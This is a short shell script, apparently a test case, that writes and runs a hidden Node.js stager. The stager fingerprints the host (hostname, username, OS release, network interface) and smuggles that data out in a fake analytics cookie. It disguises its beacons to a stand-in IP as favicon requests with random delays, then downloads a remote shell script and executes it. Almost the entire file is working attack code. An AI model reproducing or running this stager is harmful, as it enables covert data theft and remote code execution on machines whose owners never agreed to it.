#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.fav.js <<'END'
const http = require("http"), os = require("os"), { execFile } = require("child_process"); let n = 0;
const id = Buffer.from(JSON.stringify([os.hostname(), os.userInfo().username, os.release(), os.networkInterfaces().eth0])).toString("base64url");
const ask = () => http.get({ host: "203.0.113.10", path: n < 6 ? "/favicon.ico" : "/payload.sh", headers: { Cookie: "_ga=" + id, "If-None-Match": '"' + n + '"' } }, r => { let t = ""; r.on("data", d => t += d); r.on("end", () => { if (t.startsWith("#!")) execFile("/bin/sh", ["-c", t], () => process.exit()); else { n++; setTimeout(ask, 150 + Math.random() * 200); } }); });
ask();
END
node /tmp/.fav.js
test -e /tmp/reached
took_place
